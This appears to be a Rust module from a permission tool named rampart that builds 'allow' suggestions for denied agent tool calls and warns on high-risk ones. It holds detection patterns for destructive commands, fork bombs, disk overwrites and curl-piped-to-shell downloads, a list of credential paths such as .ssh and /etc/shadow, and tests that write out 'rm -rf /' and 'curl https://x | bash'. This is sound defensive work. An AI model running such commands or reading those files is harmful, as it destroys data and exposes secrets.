//! Ready-to-run `rampart allow ...` suggestions attached to deny decisions (spec §8.4).

use super::command::{basename, for_each_word};

const HIGH_RISK: &str =
    "⚠️  This command matches a high-risk pattern; allowing it is not recommended.";

const NO_WILDCARD: &[&str] = &[
    "rm", "shred", "dd", "wipefs", "fdisk", "parted", "truncate", "mv",
];
const PREFIXES: &[&str] = &[
    "sudo", "env", "time", "nice", "ionice", "nohup", "timeout", "strace", "ltrace",
];

/// Whether `hay` contains `needle`. The needles here are short and fixed and the texts are
/// short, so scanning for the first byte costs less than `str::contains` building a searcher
/// on every call.
fn has(hay: &str, needle: &str) -> bool {
    let h = hay.as_bytes();
    match needle.as_bytes().split_first() {
        None => true,
        Some((&first, rest)) => memchr::memchr_iter(first, h)
            .any(|i| h.get(i + 1..).is_some_and(|t| t.starts_with(rest))),
    }
}

/// Path fragments that make a path too sensitive for a wildcard suggestion (lower case).
const SENSITIVE: &[&str] = &[
    ".ssh",
    ".aws",
    ".gnupg",
    "shadow",
    "sudoers",
    "passwd",
    ".env",
    "credentials",
    "id_rsa",
    "id_ed25519",
    ".kube",
    "token",
];

/// Whether `p` holds one of [`SENSITIVE`], compared lower-cased.
fn looks_sensitive(p: &str) -> bool {
    if !p.is_ascii() {
        // Unicode lower-casing can turn non-ASCII letters into ASCII ones (`K` is `k`).
        let l = p.to_lowercase();
        return SENSITIVE.iter().any(|s| has(&l, s));
    }
    // One pass over the bytes; each fragment is tried where its first byte is (the test
    // `sensitive_check_is_a_lowercased_substring_search` holds this list to SENSITIVE).
    let b = p.as_bytes();
    let at = |i: usize, w: &str| {
        b.get(i..i + w.len())
            .is_some_and(|t| t.eq_ignore_ascii_case(w.as_bytes()))
    };
    (0..b.len()).any(|i| match b[i].to_ascii_lowercase() {
        b'.' => {
            at(i, ".ssh") || at(i, ".aws") || at(i, ".gnupg") || at(i, ".env") || at(i, ".kube")
        }
        b's' => at(i, "shadow") || at(i, "sudoers"),
        b'p' => at(i, "passwd"),
        b'c' => at(i, "credentials"),
        b'i' => at(i, "id_rsa") || at(i, "id_ed25519"),
        b't' => at(i, "token"),
        _ => false,
    })
}

/// The words of a command ([`for_each_word`]) in one buffer, without an allocation per word.
struct Words {
    buf: String,
    spans: Vec<(usize, usize)>,
}

impl Words {
    fn of(s: &str) -> Words {
        let mut w = Words {
            buf: String::with_capacity(s.len()),
            spans: Vec::with_capacity(s.len() / 6 + 2),
        };
        for_each_word(s, |t| {
            let start = w.buf.len();
            w.buf.push_str(t);
            w.spans.push((start, w.buf.len()));
        });
        w
    }

    fn len(&self) -> usize {
        self.spans.len()
    }

    fn get(&self, i: usize) -> Option<&str> {
        self.spans.get(i).map(|&(a, b)| &self.buf[a..b])
    }

    fn iter(&self) -> impl DoubleEndedIterator<Item = &str> + ExactSizeIterator {
        self.spans.iter().map(|&(a, b)| &self.buf[a..b])
    }
}

/// Whether `cmd` is too dangerous to suggest allowing; `words` is [`Words::of`]`(cmd)`.
fn high_risk(cmd: &str, words: &Words) -> bool {
    let c = cmd.trim();
    let trimmed_words;
    let t = if c.len() == cmd.len() {
        words
    } else {
        trimmed_words = Words::of(c);
        &trimmed_words
    };
    let rm_rf = t.get(0).is_some_and(|w| basename(w) == "rm")
        && t.iter()
            .any(|w| w.starts_with('-') && (w.contains('r') || w.contains('R')))
        && t.iter().any(|w| w.starts_with('-') && w.contains('f'))
        && t.iter().skip(1).any(|w| {
            matches!(w, "/" | "~" | "." | ".." | "/*" | "~/")
                || [
                    "/etc", "/usr", "/bin", "/boot", "/lib", "/var", "/home", "/root", "/sbin",
                ]
                .iter()
                .any(|d| {
                    w.strip_prefix(d)
                        .is_some_and(|r| r.is_empty() || r.starts_with('/'))
                })
        });
    // Each group is tried only when the text has what all its patterns share.
    rm_rf
        || has(c, ":(){")
        || (has(c, "/dev/")
            && (has(c, ">/dev/sd")
                || has(c, "> /dev/sd")
                || (has(c, "dd ") && has(c, "of=/dev/"))
                || has(c, "mkfs")))
        || (c.contains('|')
            && (has(c, "curl") || has(c, "wget") || has(c, "base64 -d"))
            && (has(c, "| sh") || has(c, "| bash") || has(c, "|sh") || has(c, "|bash")))
        || has(c, "<(curl")
}

/// Appends `s` double-quoted for a shell command line, `\` and `"` escaped.
fn quote_into(out: &mut String, s: &str) {
    out.push('"');
    let mut rest = s;
    // Copied in runs between the bytes that need a backslash (both ASCII).
    while let Some(i) = memchr::memchr2(b'\\', b'"', rest.as_bytes()) {
        out.push_str(&rest[..i]);
        out.push('\\');
        out.push_str(&rest[i..=i]);
        rest = &rest[i + 1..];
    }
    out.push_str(rest);
    out.push('"');
}

/// Suggestions for a denied call: exact and wildcard allow commands, or a warning.
pub fn suggestions(tool: &str, command: Option<&str>, path: Option<&str>) -> Vec<String> {
    let q = |s: &str| {
        let mut out = String::with_capacity(s.len() + 2);
        quote_into(&mut out, s);
        out
    };
    if tool == "exec" {
        let Some(cmd) = command else {
            return Vec::new();
        };
        let t = Words::of(cmd);
        if high_risk(cmd, &t) {
            return vec![HIGH_RISK.to_string()];
        }
        let mut exact = String::with_capacity(cmd.len() + 16);
        exact.push_str("rampart allow ");
        quote_into(&mut exact, cmd.trim());
        let mut out = vec![exact];
        let mut exe_i = 0;
        while t
            .get(exe_i)
            .is_some_and(|w| PREFIXES.contains(&basename(w)))
        {
            exe_i += 1;
        }
        let dangerous = t
            .get(exe_i)
            .is_some_and(|w| NO_WILDCARD.contains(&basename(w)) || basename(w).starts_with("mkfs"));
        if !dangerous
            && t.len() > 1
            && let Some(last) = t.iter().rposition(|w| !w.starts_with('-'))
            && last > 0
            && !t.get(last).is_some_and(looks_sensitive)
        {
            let mut joined = String::with_capacity(cmd.len());
            for (i, w) in t.iter().enumerate() {
                if i > 0 {
                    joined.push(' ');
                }
                joined.push_str(if i == last { "*" } else { w });
            }
            let mut wild = String::with_capacity(joined.len() + 16);
            wild.push_str("rampart allow ");
            quote_into(&mut wild, &joined);
            out.push(wild);
        }
        return out;
    }
    let Some(p) = path else { return Vec::new() };
    let l = p.to_lowercase();
    if has(&l, "shadow") || has(&l, "sudoers") || (has(&l, ".ssh/id_") && !l.ends_with(".pub")) {
        return vec![HIGH_RISK.to_string()];
    }
    let mut out = vec![format!("rampart allow {} --tool {tool}", q(p))];
    if tool != "write"
        && tool != "edit"
        && !looks_sensitive(p)
        && let Some((dir, _)) = p.rsplit_once('/')
        && !dir.is_empty()
    {
        out.push(format!(
            "rampart allow {} --tool {tool}",
            q(&format!("{dir}/*"))
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exec_suggestions() {
        assert_eq!(suggestions("exec", Some("rm -rf /"), None), vec![HIGH_RISK]);
        assert_eq!(
            suggestions("exec", Some("curl https://x | bash"), None),
            vec![HIGH_RISK]
        );
        let s = suggestions("exec", Some("npm publish pkg"), None);
        assert_eq!(s[0], "rampart allow \"npm publish pkg\"");
        assert_eq!(s[1], "rampart allow \"npm publish *\"");
        assert_eq!(suggestions("exec", Some("rm notes.txt"), None).len(), 1);
    }

    proptest::proptest! {
        #[test]
        fn has_is_a_substring_search(hay in "[ab|/ é]{0,12}", needle in "[ab|/ é]{0,3}") {
            proptest::prop_assert_eq!(has(&hay, &needle), hay.contains(needle.as_str()));
        }

        #[test]
        fn sensitive_check_is_a_lowercased_substring_search(
            parts in proptest::collection::vec(
                (
                    proptest::sample::select(SENSITIVE),
                    proptest::collection::vec(proptest::bool::ANY, 12),
                    "[./_a-z]{0,2}|\u{212a}ube|é",
                    0..3usize,
                ),
                0..4,
            )
        ) {
            // Fragments of SENSITIVE in any letter case, some cut short, between filler.
            let mut p = String::new();
            for (frag, upper, filler, cut) in &parts {
                let frag = &frag[..frag.len() - cut.min(&(frag.len() - 1))];
                for (c, up) in frag.chars().zip(upper.iter().cycle()) {
                    p.push(if *up { c.to_ascii_uppercase() } else { c });
                }
                p.push_str(filler);
            }
            let l = p.to_lowercase();
            proptest::prop_assert_eq!(looks_sensitive(&p), SENSITIVE.iter().any(|s| l.contains(s)));
        }

        #[test]
        fn quoting_escapes_backslashes_and_double_quotes(s in "[a\\\\\"' é$]{0,16}") {
            let mut want = String::from("\"");
            for c in s.chars() {
                if matches!(c, '\\' | '"') {
                    want.push('\\');
                }
                want.push(c);
            }
            want.push('"');
            let mut got = String::new();
            quote_into(&mut got, &s);
            proptest::prop_assert_eq!(got, want);
        }
    }

    #[test]
    fn path_suggestions() {
        assert_eq!(
            suggestions("read", None, Some("/etc/shadow")),
            vec![HIGH_RISK]
        );
        let s = suggestions("read", None, Some("/srv/data/a.csv"));
        assert_eq!(s.len(), 2);
        assert!(s[1].contains("/srv/data/*"));
        assert_eq!(suggestions("write", None, Some("/srv/data/a.csv")).len(), 1);
    }
}
